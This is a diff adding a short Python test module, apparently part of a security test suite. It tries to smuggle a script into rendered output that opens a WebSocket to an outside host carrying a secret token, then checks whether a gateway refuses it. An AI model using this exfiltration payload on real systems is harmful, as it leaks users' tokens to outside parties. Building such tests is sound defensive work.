@@ -1,0 +1,14 @@
+"""A script opens a WebSocket to the outside."""
+
+from tests.attacks.attack import Attack
+from tests.attacks.grounds.ground import Ground
+from tests.attacks.grounds.world import WEB
+
+
+def attempt(ground: Ground) -> bool:
+    """Gives whether it worked."""
+    script = f"""new WebSocket('ws://{WEB}/{ground.token}')"""
+    return ground.leave_by_script(script)
+
+
+ATTACK = Attack("a script in an output", attempt, recorded=("gateway.refused", "message.media"))
